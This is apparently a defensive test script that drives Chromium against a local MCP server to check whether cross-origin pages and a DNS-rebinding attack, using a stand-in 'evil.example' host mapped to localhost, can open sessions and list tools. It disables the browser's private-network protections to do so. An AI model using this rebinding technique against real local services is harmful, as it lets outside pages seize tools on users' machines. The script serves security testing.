// A real browser before an MCP server: what a page of another origin may do, and
// what a page that had its name rebound to this machine may not.
//
//   node browser.mjs ORIGIN
//
// ORIGIN is http://127.0.0.1:PORT of server-everything or of a tap before it. One
// JSON line for each attempt, on stdout. It drives Debian's Chromium through
// playwright-core from $MCPCOL_PEERS, or from .peers at the top of the checkout.
//
// It deliberately does not judge: without a tap the attacks succeed.

import { createServer } from "node:http";
import { createRequire } from "node:module";
import path from "node:path";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
const peers = path.resolve(process.env.MCPCOL_PEERS ?? path.join(here, "../../.peers"));
const load = createRequire(path.join(peers, "npm-http/package.json"));
const { chromium } = load("playwright-core");

const origin = new URL(process.argv[2]);
const FOREIGN = "evil.example"; // a name that the browser is told to find on this machine
const BLANK = "<!doctype html><title>page</title>";
const ARGS = [
  "--no-sandbox", // CI is root
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  // A defence of newer browsers against the same attack; what is tried here is ours.
  "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests",
  `--host-resolver-rules=MAP ${FOREIGN} 127.0.0.1`,
];

const say = (line) => console.log(JSON.stringify(line));

// Runs in the page: opens a session, lists the tools and ends the session again.
async function session(url) {
  let id = null;
  const send = async (method, body) => {
    const headers = { "content-type": "application/json", accept: "application/json, text/event-stream" };
    if (id) Object.assign(headers, { "mcp-session-id": id, "mcp-protocol-version": "2025-11-25" });
    return fetch(url, { method, headers, body: body && JSON.stringify({ jsonrpc: "2.0", ...body }) });
  };
  const message = (text) => JSON.parse(text.split("\n").filter((line) => /^data: ./.test(line)).at(-1).slice(6));
  try {
    const params = { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "page", version: "1" } };
    const opened = await send("POST", { id: 1, method: "initialize", params });
    if (!opened.ok) return { status: opened.status };
    id = opened.headers.get("mcp-session-id");
    const { result } = message(await opened.text());
    const ready = await send("POST", { method: "notifications/initialized" });
    const listed = message(await (await send("POST", { id: 2, method: "tools/list" })).text());
    const closed = await send("DELETE");
    return {
      status: opened.status,
      session: id !== null,
      server: result.serverInfo.name,
      initialized: ready.status,
      tools: listed.result.tools.map((tool) => tool.name),
      closed: closed.status,
    };
  } catch (error) {
    return { error: `${error.name}: ${error.message}` };
  }
}

const pages = createServer((_request, response) => {
  response.setHeader("content-type", "text/html");
  response.end(BLANK);
});
await new Promise((ready) => pages.listen(0, "127.0.0.1", ready));
const port = pages.address().port;
const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ARGS });
try {
  const mcp = new URL("/mcp", origin).href;

  // A page on another port of this machine, as a local inspector is.
  const local = await browser.newPage();
  await local.goto(`http://localhost:${port}/`);
  say({ step: "local-page", ...(await local.evaluate(session, mcp)) });

  // A page from elsewhere calls this machine.
  const foreign = await browser.newPage();
  await foreign.goto(`http://${FOREIGN}:${port}/`);
  say({ step: "foreign-page", ...(await foreign.evaluate(session, mcp)) });

  // The name now leads here, to the port of the server: same origin for the page.
  const rebound = `http://${FOREIGN}:${origin.port}`;
  const visit = await browser.newPage();
  const visited = await visit.goto(`${rebound}/mcp`);
  say({ step: "rebound-visit", status: visited.status() });

  // The page itself came earlier, when the name still led elsewhere.
  const attack = await browser.newPage();
  await attack.route(`${rebound}/page`, (route) => route.fulfill({ contentType: "text/html", body: BLANK }));
  await attack.goto(`${rebound}/page`);
  say({ step: "rebound-page", ...(await attack.evaluate(session, `${rebound}/mcp`)) });
} finally {
  await browser.close();
  pages.close();
}
